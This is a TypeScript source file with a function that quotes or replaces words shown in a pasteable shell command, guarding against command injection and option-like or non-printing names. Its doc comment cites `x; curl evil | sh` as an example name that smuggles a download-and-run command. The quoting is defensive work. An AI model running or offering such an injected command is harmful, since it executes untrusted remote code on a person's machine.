/** What a terminal shows as it is and a shell keeps within quotes: no control, no invisible character, no other blank. */
const PRINTED = /^[\p{L}\p{M}\p{N}\p{P}\p{S} ]{1,120}$/u;
const PLAIN = /^[\w@%+=:,./][\w@%+=:,./-]*$/;

/**
 * A word of a command that somebody is shown to paste. Names are other people's: `x; curl evil | sh` and `--all` can be names of
 * tools, so they stand in quotes, and what begins like an option or cannot be typed is left to the person.
 * @param instead what stands for it then: `TOOL`
 */
export function shellWord(text: string, instead: string): string {
  if (PLAIN.test(text)) return text;
  if (text.startsWith('-') || !PRINTED.test(text)) return instead;
  return `'${text.replaceAll("'", "'\\''")}'`;
}
